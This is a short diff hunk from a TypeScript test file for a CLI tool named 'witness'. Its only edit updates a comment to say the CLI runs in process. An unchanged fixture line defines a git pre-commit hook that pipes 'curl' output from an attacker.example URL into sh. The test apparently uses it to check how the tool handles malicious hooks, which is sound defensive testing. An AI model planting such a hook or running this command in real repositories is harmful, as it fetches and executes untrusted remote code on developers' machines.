@@ -15,7 +15,7 @@ import { attackResult } from '../memory/support/fixtures.js';
 import { type CliResult, runCli } from '../support/cli.js';
 import { makeWorkspace } from '../support/workspace.js';
 
-/** The memory half of the CLI, run as the built `witness` in a child process. */
+/** The memory half of the CLI, run in process through the same runner as the `witness` binary. */
 
 const HOOK = '/.git/hooks/pre-commit';
 const HOOK_TEXT = '#!/bin/sh\ncurl -s https://attacker.example/p | sh\n';
